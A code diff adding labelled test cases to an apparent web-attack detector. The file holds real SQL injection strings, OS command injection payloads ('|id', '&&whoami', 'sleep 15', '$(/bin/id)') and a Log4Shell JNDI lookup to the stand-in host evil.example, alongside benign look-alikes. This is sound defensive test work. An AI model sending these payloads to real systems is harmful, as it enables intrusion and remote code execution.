@@ -211,6 +211,13 @@ CATEGORIES = [
     (b"GET /items?id=1 OR 1=1 HTTP/1.1", "sql_injection"),
     (b"GET /items?id=1+OR+2+=+2 HTTP/1.1", "sql_injection"),
     (b"GET /login?user=admin' OR '1'='1 HTTP/1.1", "sql_injection"),
+    # Acunetix's blind SQL injection: a tautology written as arithmetic (plain, after a quote, percent-encoded)
+    (b"GET /?id=-1%20OR%202%2B552-552-1%3D0%2B0%2B0%2B1%20--%20 HTTP/1.1", "sql_injection"),
+    (b"GET /?id=-1%27%20OR%202%2B552-552-1%3D0%2B0%2B0%2B1%20--%20 HTTP/1.1", "sql_injection"),
+    (b"GET /?id=%27%20AND%203*2*1%3D6%20AND%20%27000m1Gd%27%3D%27000m1Gd HTTP/1.1", "sql_injection"),
+    (b"GET /?id=1%20AND%203*2%3D6 HTTP/1.1", "sql_injection"),
+    (b"GET /search?q=pages+1-10+or+2-5 HTTP/1.1", None),
+    (b"GET /search?q=%22rock%22+and+roll&sort-by=date HTTP/1.1", None),
     (b"GET /login?user=admin'+or+'1'='1 HTTP/1.1", "sql_injection"),
     (b"GET /search?q=1%27%20OR%201%3D1-- HTTP/1.1", "sql_injection"),
     (b"GET /items?id=1%2520or%25201%253D1 HTTP/1.1", "sql_injection"),  # encoded twice
@@ -247,6 +254,29 @@ CATEGORIES = [
     (b"GET /x?ip=1;id HTTP/1.1", "command_injection"),
     (b"GET /x?ip=`id` HTTP/1.1", "command_injection"),
     (b"GET /x?ip=$(whoami) HTTP/1.1", "command_injection"),
+    # a command chained after a value (ZAP's and Burp's OS command injection payloads), and what is none
+    (b"GET /x?ip=127.0.0.1|id HTTP/1.1", "command_injection"),
+    (b"GET /x?ip=127.0.0.1%26%26id HTTP/1.1", "command_injection"),
+    (b"GET /x?ip=1&&whoami HTTP/1.1", "command_injection"),
+    (b"GET /x?ip=1%7C%7Cuname%20-a HTTP/1.1", "command_injection"),
+    (b"GET /x?ip=x%26sleep%2015%26 HTTP/1.1", "command_injection"),
+    (b"GET /x?ip=x;sleep+15; HTTP/1.1", "command_injection"),
+    (b"GET /api?fields=name|id HTTP/1.1", None),
+    (b"GET /w/api.php?prop=info|id&x=1 HTTP/1.1", None),
+    (b"GET /search?q=tom+%26%26+jerry HTTP/1.1", None),
+    (b"GET /search?q=baby+sleep;sleep+12+hours HTTP/1.1", None),
+    (b"GET /x?ip=%24%28sleep%205%29 HTTP/1.1", "command_injection"),
+    (b"GET /x?ip=$(/bin/id) HTTP/1.1", "command_injection"),
+    (b"GET /x?ip=1;echo+abc$((87%2B42))$(echo+abc)abc HTTP/1.1", "command_injection"),  # commix
+    # jQuery and CSS selectors, which developers search for: neither a command substitution nor a quote closed by
+    # a SQL comment (a search for "$(document).ready" answered 200 was a command injection "answered 2xx" warning)
+    (b"GET /search?q=$(document).ready HTTP/1.1", None),
+    (b"GET /search?q=%24(this).closest(%27div%27) HTTP/1.1", None),
+    (b"GET /search?q=$(%27%23main-nav%27).hide() HTTP/1.1", None),
+    (b"GET /search?q=%24(%22%23cart%22) HTTP/1.1", None),
+    (b"GET /login?u=admin'%23 HTTP/1.1", "sql_injection"),
+    (b"GET /login?u=admin%27%23&p=x HTTP/1.1", "sql_injection"),
+    (b"GET /x?id=1%22)%23 HTTP/1.1", "sql_injection"),
     (b"GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1", "command_injection"),
     (b"GET /?x=${${lower:j}ndi:x} HTTP/1.1", "command_injection"),
     (b"GET /x?cmd=/bin/bash HTTP/1.1", "command_injection"),
